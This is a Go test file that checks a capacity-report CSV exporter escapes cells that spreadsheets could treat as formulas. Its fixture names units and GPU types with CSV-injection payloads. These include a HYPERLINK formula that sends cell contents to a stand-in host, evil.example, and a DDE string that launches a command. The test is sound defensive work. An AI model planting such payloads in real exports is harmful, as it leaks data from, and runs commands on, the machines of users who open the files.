package render

import (
	"bytes"
	"encoding/csv"
	"testing"

	"tokenmeter/internal/safecsv"
	"tokenmeter/internal/testkit/sheettest"
	meterv1 "tokenmeter/proto/tokenmeter/v1"
)

// formulaReport is sampleReport with units, deployments, models and GPU
// types named like spreadsheet formulas, and figures that are negative.
func formulaReport() *meterv1.CapacityReport {
	r := sampleReport()
	u := r.GetUnits()[0]
	u.Name = `=HYPERLINK("http://evil.example/?"&A1,"capacity")`
	u.Deployments = []string{u.Name, "ok"}
	u.Models = []string{"@SUM(1+1)", "-5"}
	u.GpuTypes = []string{"+1+1", `=cmd|' /C calc'!A0`}
	u.Trend.TokensGrowth, u.Trend.PeakGrowth = -0.25, -0.125
	u.GpusNeeded[0].Change = -3
	r.Units[1].Name = "-5"
	r.Fleet.Deployments = []string{"ok", u.Name}
	return r
}

// TestCSVNoFormulas checks that no text cell of the capacity CSV can start
// a formula while number cells, negative ones included, stay plain numbers.
func TestCSVNoFormulas(t *testing.T) {
	text := 0
	for _, c := range csvHeader {
		if csvTextColumn(c) {
			text++
		}
	}
	if want := 13 + 2*numSlots; text != want { // a misspelt text column would be read as numbers
		t.Errorf("%d text columns, want %d", text, want)
	}
	var buf bytes.Buffer
	if err := CSV(&buf, formulaReport()); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	byName := map[string]map[string]string{}
	for n, rec := range recs {
		row := map[string]string{}
		for i, cell := range rec {
			col := recs[0][i]
			row[col] = cell
			if n > 0 && !csvTextColumn(col) {
				if cell != "" && !safecsv.IsNumber(cell) {
					t.Errorf("row %d: number column %s holds %q", n, col, cell)
				}
				continue
			}
			if safecsv.FormulaRisk(cell) {
				t.Errorf("row %d: text column %s holds %q: a spreadsheet may take it as a formula", n, col, cell)
			}
		}
		byName[row["name"]] = row
	}
	evil := byName[`'=HYPERLINK("http://evil.example/?"&A1,"capacity")`]
	if evil == nil {
		t.Fatalf("no row named '=HYPERLINK(...): %v", keys(byName))
	}
	for col, want := range map[string]string{
		"deployments":                      `'=HYPERLINK("http://evil.example/?"&A1,"capacity")|ok`,
		"models":                           "'@SUM(1+1)|-5",
		"gpu_types":                        `'+1+1|=cmd|' /C calc'!A0`,
		"weekly_tokens_growth":             "-0.25",
		"weekly_peak_growth":               "-0.125",
		"gpus_needed_observed_peak_change": "-3",
	} {
		if evil[col] != want {
			t.Errorf("%s = %q, want %q", col, evil[col], want)
		}
	}
	if byName["'-5"] == nil {
		t.Errorf("no row named '-5 (a name that looks like a number stays text): %v", keys(byName))
	}
	if got := byName["fleet"]["deployments"]; got != `ok|=HYPERLINK("http://evil.example/?"&A1,"capacity")` {
		t.Errorf("fleet deployments = %q", got)
	}
}

func keys[V any](m map[string]V) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestCSVInASpreadsheet opens the hostile report's CSV in LibreOffice Calc
// (formulas evaluated): no cell is a formula, every figure is a number
// (negative growth and GPU changes too), every escaped name is text.
func TestCSVInASpreadsheet(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, formulaReport()); err != nil {
		t.Fatal(err)
	}
	sheet := sheettest.Open(t, sheettest.Comma, buf.Bytes())[0]
	if n := sheettest.CheckCSV(t, sheet, buf.Bytes(), func(c string) bool { return !csvTextColumn(c) }); n == 0 {
		t.Error("no number cells")
	}
}
